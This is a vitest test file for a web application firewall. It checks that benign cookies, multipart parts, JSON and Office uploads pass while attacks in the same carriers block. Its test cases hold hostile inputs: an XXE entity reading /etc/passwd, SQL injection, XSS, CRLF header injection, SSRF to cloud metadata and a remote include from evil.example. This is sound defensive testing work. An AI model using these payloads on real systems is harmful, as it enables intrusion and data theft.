// Benign values carried the way other clients carry them (test/support/benign/mutations.ts: query, form,
// JSON nested or escaped, multipart with part headers, cookies, custom headers, HTTP/2 pseudo-headers,
// base64 JSON, JWTs, text in other scripts, long and repeated values, Windows paths), drawn from
// test/support/benign/carried.ts, must pass; attacks in the same carriers must still block. Then each fix
// with its attack look-alikes. `npx tsx scripts/probe-benign-mutations.ts CORPUS.jsonl` measures the same
// mutations over the corpus's benign requests and the benign families.
//
// Left alone, and why:
// - gzip body with Content-Encoding: 1021. The module does not inflate (no room under the size bar), and
//   frameworks that do (Express's body-parser) would run what the WAF never read; the route that takes
//   compressed telemetry gets an exclusion of 1021.
// - compressed or binary uploads typed application/gzip, application/zip, image/*, application/pdf, and Office
//   documents sent as the whole body (`application/vnd.openxmlformats-...`, no longer read as XML): 1010, the
//   media-type allow-list (CRS 920420 labels unlisted types as attacks; application/octet-stream passes). In a
//   multipart file part they pass; a binary part without a file name is a field, and its NUL bytes count (1040).
// - corpus values moved where they are an attack's shape: a URL in a field named `file` (6104), `$search` as
//   a JSON key (12001, a MongoDB operator), multi-line text with `NAME=value` lines in a query (1067,
//   parameter injection), literal `%20` text re-escaped (1043, double encoding). A repeated name costs nothing (its
//   values joined with `,`, as ASP.NET reads them, are inspected as one more value): left alone are values that
//   read as code only joined to a copy of themselves (`filemtime($foo),filemtime(`: 9121; `JavaScript: Basics,
//   JavaScript:`: 3003), as they do sent as one comma-separated value.
// - `+` as a space in the query of a URL that is a value (`return_to=https://host/upload?file=q(+sql:+'SELECT+*+FROM`):
//   2007 reads `'SELECT+*+FROM` as a breakout; the query inside a value is not decoded again.
// - attacks: file contents of a multipart upload are not read (a file part is no field; XML and SVG files are); short
//   payloads (`;id`, `admin'--`) beside other text in a JSON cookie or a repeated parameter. (The claims of a JSON Web
//   Token are read as `jwt:` targets, engine/jwt.ts: its carrier is no longer left alone.)
import { beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { deflateRawSync } from "node:zlib";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, type Req } from "../support/engine.js";
import { rng } from "../support/variants/rng.js";
import { PAYLOADS } from "../support/variants/carriers.js";
import { MUTATIONS, type Source } from "../support/benign/mutations.js";
import { carriedFields } from "../support/benign/carried.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const SEED = 20261129;
const BENIGN_LEFT_ALONE = ["gzip body, Content-Encoding", "compressed upload (gzip, zip type)"];
const ATTACK_LEFT_ALONE = ["multipart files", "compressed upload (gzip, zip type)"];
const describeHits = (req: Req) => inspect(h, req).matches.map((m) => `${m.id}@${m.target}`).join(",");

describe("benign field sets in every carrier pass at paranoia 1", () => {
  const sources = fc.sample(carriedFields, { seed: SEED, numRuns: 80 });
  // When this test was written 20 of these carriers blocked some of the 80: cookies 80, query 65 (dotted names 31), multipart
  // with part Content-Type 64, repeated parameters 61, form 58, multipart 58, long values 45, UTF-8 text 43, multipart
  // files 38, Windows paths 38, HTTP/2 35, JSON under other media types 7. With terminal colours in the log lines and
  // URLs whose query nests bracketed names (3008, 1041), 30 of the 33 tested blocked some at the next round's start.
  it.each(Object.keys(MUTATIONS).filter((n) => !BENIGN_LEFT_ALONE.includes(n)))("%s", (name) => {
    const blocked = sources.map((s, k) => MUTATIONS[name](s, rng(k + 1))).filter((req) => inspect(h, req).score >= 5);
    expect(blocked.map((req) => `${JSON.stringify(req).slice(0, 300)} by ${describeHits(req)}`)).toEqual([]);
  });
});

describe("attacks in the same carriers block", () => {
  const payloads = Object.values(PAYLOADS).flat().filter((p) => p.length >= 12);
  const source = (p: string): Source => ({
    method: "POST", path: "/api/v1/notes", headers: [["host", "app.example.com"], ["user-agent", "okhttp/4.12.0"]],
    fields: [{ path: ["title"], value: "Weekly report" }, { path: ["note"], value: p }, { path: ["content", "body"], value: "hello" }],
  });
  it.each(Object.keys(MUTATIONS).filter((n) => !ATTACK_LEFT_ALONE.includes(n)))("%s", (name) => {
    const missed = payloads.filter((p, k) => inspect(h, MUTATIONS[name](source(p), rng(k + 1))).score < 5);
    expect(missed).toEqual([]);
  });
});

const HOST: [string, string] = ["host", "app.example.com"];
const get = (path: string, headers: [string, string][] = []): Req => ({ method: "GET", path, headers: [HOST, ...headers] });
const typed = (type: string, body: string | Uint8Array): Req => ({ method: "POST", path: "/api/v1/items", headers: [HOST, ["content-type", type]], body });
const part = (head: string, body: string): Req => typed("multipart/form-data; boundary=b0undary", `--b0undary\r\nContent-Disposition: form-data; name="note"\r\n${head}\r\n\r\n${body}\r\n--b0undary--\r\n`);
const file = (type: string, filename: string, body: string): Req => typed("multipart/form-data; boundary=b0undary", `--b0undary\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${body}\r\n--b0undary--\r\n`);
const XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
const OFFICE = [["application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"], ["application/vnd.openxmlformats-officedocument.wordprocessingml.document", "docx"], ["application/vnd.openxmlformats-officedocument.presentationml.presentation", "pptx"]];
/** Office uploads: zip entries whose deflated XML reads as random bytes (read as XML documents, 8 of these 120 blocked). */
function officeUploads(count: number): Req[] {
  const r = rng(SEED);
  return Array.from({ length: count }, (_, k) => {
    const [type, ext] = OFFICE[k % 3];
    const xml = `<?xml version="1.0" encoding="UTF-8"?><worksheet>${Array.from({ length: 50 + r(400) }, (_, i) => `<row r="${i}"><c t="s"><v>${r(1e6)}</v></c></row>`).join("")}</worksheet>`;
    const zip = Buffer.concat([Buffer.from("PK\x03\x04\x14\x00\x06\x00\x08\x00", "latin1"), Buffer.from("[Content_Types].xml"), deflateRawSync(Buffer.from(xml)), Buffer.from("PK\x01\x02", "latin1")]);
    const body = Buffer.concat([Buffer.from(`--b0undary\r\nContent-Disposition: form-data; name="file"; filename="report-${k}.${ext}"\r\nContent-Type: ${type}\r\n\r\n`), zip, Buffer.from("\r\n--b0undary--\r\n")]);
    return typed("multipart/form-data; boundary=b0undary", new Uint8Array(body));
  });
}
const named = (name: string, body = "x"): Req => typed("multipart/form-data; boundary=b0undary", `--b0undary\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${body}\r\n--b0undary--\r\n`);

/** [what, request, blocked?] */
const CASES: [string, Req, boolean][] = [
  // Percent-encoded line breaks in a header value are escaped text; a header after them, or a bare CR, is injection.
  ["multi-line cookie value (LF)", get("/", [["cookie", "sid=ab12; draft=Line%20one%0ALine%20two"]]), false],
  ["multi-line cookie value (CRLF)", get("/", [["cookie", "draft=Dear%20team%2C%0D%0Athanks!"]]), false],
  ["Referer whose query holds a textarea", get("/", [["referer", "https://app.example.com/search?q=first%0Asecond"]]), false],
  ["custom header, escaped log lines", get("/", [["x-note", "2024-05-01T10:12:01Z%20INFO%20ok%0A2024-05-01T10:12:02Z%20WARN%20slow"]]), false],
  ["cookie: CRLF then Set-Cookie", get("/", [["cookie", "lang=en%0d%0aSet-Cookie:%20sid=attacker"]]), true],
  ["header: CRLF then Location", get("/", [["x-return", "ok%0d%0aLocation:%20https://evil.example"]]), true],
  ["header: bare CR then a header", get("/", [["x-note", "data%0dInjectedHeader: response_splitting_code"]]), true],
  ["header: CRLF then a hyphenated header", get("/", [["x-note", "a%0d%0aX-Forwarded-For:%20127.0.0.1"]]), true],
  ["escaped control byte in a header", get("/", [["x-log", "a%01b"]]), true],
  // A log line that starts with a timestamp is no header; a header name starts with a letter.
  ["query: log lines with timestamps", get("/logs?text=build%0A2024-05-01T10:12:01.000Z%20Syncing%20repository:%20acme/api"), false],
  ["query: CRLF then a hyphenated header", get("/logs?text=a%0d%0aFoo-Bar:%20x"), true],
  ["query: CRLF then Access-Control-Allow-Origin", get("/logs?text=a%0d%0aAccess-Control-Allow-Origin:%20*"), true],
  // Content-Transfer-Encoding that leaves the bytes alone (Apache HttpClient's strict mode) passes; encodings that hide them do not.
  ["multipart part, 8bit", part("Content-Type: text/plain; charset=ISO-8859-1\r\nContent-Transfer-Encoding: 8bit", "Grüße aus Köln"), false],
  ["multipart part, 7bit", part("Content-Transfer-Encoding: 7bit", "hello"), false],
  ["multipart part, binary", part("Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary", "hello"), false],
  ["multipart part, base64", part("Content-Transfer-Encoding: base64", "aGVsbG8="), true],
  ["multipart part, quoted-printable", part("Content-Transfer-Encoding: quoted-printable", "a=3Db"), true],
  ["multipart part, 8bit, SQL injection", part("Content-Transfer-Encoding: 8bit", "1' or '1'='1' -- -"), true],
  // A JSON part that is one string is read as the text a JSON parser reads.
  ["JSON part, one string: an enum", part("Content-Type: application/json", JSON.stringify("AND")), false],
  ["JSON part, one string: prose", part("Content-Type: application/json", JSON.stringify("or defeat! Scout O'Rourke said")), false],
  ["JSON part, one string, SQL injection", part("Content-Type: application/json", JSON.stringify("1' or '1'='1' -- -")), true],
  ["JSON part, one string, escaped XSS", part("Content-Type: application/json", '"\\u003cimg src=x onerror=alert(1)\\u003e"'), true],
  // Media types that name JSON are parsed as JSON.
  ["text/json", typed("text/json", `{"name":"O'Reilly"}`), false],
  ["application/x-json", typed("application/x-json; charset=utf-8", `{"tags":["a","b"]}`), false],
  ["application/x-amz-json-1.1", typed("application/x-amz-json-1.1", `{"TableName":"orders","Key":{"id":{"S":"42"}}}`), false],
  ["text/json, SQL injection", typed("text/json", `{"name":"1' or '1'='1' -- -"}`), true],
  ["application/x-json, XSS", typed("application/x-json", `{"bio":"<img src=x onerror=alert(1)>"}`), true],
  ["an unknown media type", typed("my-new-content-type", `{"a":1}`), true],
  ["json only in a parameter", typed("application/foo; type=json", `{"a":1}`), true],
  // Argument names in bracket notation whose first word is a browser global.
  ["query: content[body], parent[], self[id]", get("/cms?content%5Bbody%5D=hi&parent%5B%5D=3&self%5Bid%5D=7"), false],
  ["form: window[size], top[0]", typed("application/x-www-form-urlencoded", "window%5Bsize%5D=lg&top%5B0%5D=a"), false],
  ["multipart: media-type keys", named("content[outputs][0][data][image/svg+xml]"), false],
  ["query: a computed global called in a name", get("/?top%5Balert%5D(document.domain)=1"), true],
  ["query: a computed global with a template in a name", get("/?self%5B%22alert%22%5D%601%60=1"), true],
  ["query value: a computed global called", get("/?q=top%5B%22al%22%2B%22ert%22%5D(1)"), true],
  ["multipart: a name that leaves its quotes", named('content[x]"><svg onload=alert(1)>'), true],
  // Terminal colours escaped in a header or cookie value (a CI log line, a notebook traceback) are text, as in an
  // argument; a line break after them still counts, and so does an ESC that opens no `ESC[` sequence or a raw one.
  ["cookie: escaped terminal colours", get("/", [["cookie", "sid=ab12; last_log=%1B%5B32mPASS%1B%5B0m%20build%20%2342"]]), false],
  ["custom header: CI log lines with colours", get("/", [["x-ci-log", "%1B[36;1mnpm ci%1B[0m%0A%1B[31mError: 2 tests failed%1B[39m"]]), false],
  ["cookie: colours, then CRLF and Set-Cookie", get("/", [["cookie", "log=%1B%5B32mok%0d%0aSet-Cookie:%20sid=attacker"]]), true],
  ["header: colours, then a bare CR", get("/", [["x-log", "%1B[32mok%0dInjectedHeader: x"]]), true],
  ["header: an escaped ESC that opens no colour", get("/", [["x-log", "a%1Bb"]]), true],
  ["header: a title-setting OSC sequence", get("/", [["x-log", "%1B]0;owned%07"]]), true],
  ["header: a raw ESC", get("/", [["x-log", "\u001b[31mred"]]), true],
  // A bracketed name led by a browser global in the query of a URL that is a value nests a key; one called,
  // computed from strings or followed by markup is script.
  ["query: a URL whose query nests content[...]", get(`/login?return_to=${encodeURIComponent("https://app.example.com/nb?content[nbformat]=4&content[metadata][kernelspec][name]=python3")}`), false],
  ["JSON: a URL whose query nests parent[] and self[id]", typed("application/json", JSON.stringify({ next: "https://app.example.com/cms?parent[]=3&self[id]=7&window[image/png]=a" })), false],
  ["query: a URL whose query calls a computed global", get(`/login?return_to=${encodeURIComponent("https://app.example.com/nb?top[alert](document.domain)=1")}`), true],
  ["query: a URL whose query computes a global from strings", get(`/login?return_to=${encodeURIComponent('https://app.example.com/nb?a=1&self["al"+"ert"](1)')}`), true],
  ["query: <svg onload> in a URL's nested query", get(`/login?return_to=${encodeURIComponent("https://app.example.com/nb?content[x]=<svg onload=alert(1)>")}`), true],
  // A media type names XML as a word (`application/xml`, `image/svg+xml`), not inside one: Office documents are zips.
  ["XXE in an xml part", file("application/xml", "feed.xml", XXE), true],
  ["XXE in an svg+xml part", file("image/svg+xml", "logo.svg", XXE), true],
  ["XXE in a part typed as a spreadsheet", file(OFFICE[0][0], "q3.xlsx", XXE), true],
  ["XXE in a text/xml body", typed("text/xml; charset=utf-8", XXE), true],
  // An `@` in a URL's path (a package version on a CDN) or in an e-mail address of its query hides no host; after
  // `?`, `#`, an encoded slash or a blank it does.
  ["query: CDN URLs with package versions", get(`/embed?src=${encodeURIComponent("https://unpkg.com/react@18.2.0/umd/react.production.min.js")}&std=https://deno.land/std@0.113.0/node/README.md`), false],
  ["query: a URL whose query holds an e-mail address", get(`/x?next=${encodeURIComponent(`https://app.example.com/invite?email=${encodeURIComponent("anna@example.com")}&note=${encodeURIComponent("a\\b/c")}`)}`), false],
  ["query: loopback after ?@", get("/x?u=http://example.com?@127.0.0.1/"), true],
  ["query: metadata after an encoded slash", get("/x?u=http://example.com%2fx@169.254.169.254/latest/meta-data/"), true],
  ["query: loopback after #@", get("/x?u=http://example.com%23@127.0.0.1/"), true],
  ["query: hosts after blanks and &@", get(`/x?u=${encodeURIComponent("http://1.1.1.1 &@2.2.2.2# @3.3.3.3/")}`), true],
  // A `?` that ends a URL's query (a question in it) cuts nothing off: the query began before it. The include trailer
  // (`?`, `??`, `?&`, `#` after a text file) still counts.
  ["query: a URL whose query ends in a question", get(`/x?return_to=${encodeURIComponent(`https://app.example.com/get?${new URLSearchParams({ q: "how was your day today?" })}`)}`), false],
  ["JSON: a URL whose query ends in a question", typed("application/json", JSON.stringify({ next: "https://app.example.com/search?q=Is+this+a+test?" })), false],
  ["query: remote include cut by ?", get("/x?page=http://evil.example/shell.txt?"), true],
  ["query: remote include cut by ??", get("/x?page=http://evil.example/shell.txt??"), true],
  ["query: remote include cut by ?&", get("/x?page=http://evil.example/shell.txt?%26"), true],
  ["query: remote include cut by #", get("/x?page=http://evil.example/shell.txt%23"), true],
  // `+[]` after `:` or `,` is `_: []` with `+` for blanks (a form-encoded query inside a value); after JSFuck's
  // own symbols, a blank or a quote it is JSFuck.
  ["query: a URL whose query holds `{ _: [], a: 'beep' }`", get(`/x?return_to=${encodeURIComponent(`https://app.example.com/u?${new URLSearchParams({ bio: "$ node example/parse.js -a beep -b boop { _: [], a: 'beep', b: 'boop' }" })}`)}`), false],
  ["query: JSFuck", get(`/x?q=${encodeURIComponent("[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]")}`), true],
  ["query: +[] breaking out of a string", get(`/x?q=${encodeURIComponent("'+[]+'")}`), true],
  ["query: a lone +[] and !![]", get(`/x?a=${encodeURIComponent("+[]")}&b=${encodeURIComponent("!![]")}`), true],
];

describe("Office uploads (xlsx, docx, pptx) are no XML documents", () => {
  it("none of 120 blocks", () => {
    const blocked = officeUploads(120).flatMap((req, k) => (inspect(h, req).score >= 5 ? [`${k}: ${describeHits(req)}`] : []));
    expect(blocked).toEqual([]);
  });
});

describe("each fix beside its attacks", () => {
  it.each(CASES)("%s", (_what, req, blocked) => {
    const v = inspect(h, req);
    expect(v.score >= 5, `${JSON.stringify(req)} => ${describeHits(req)}`).toBe(blocked);
  });
});
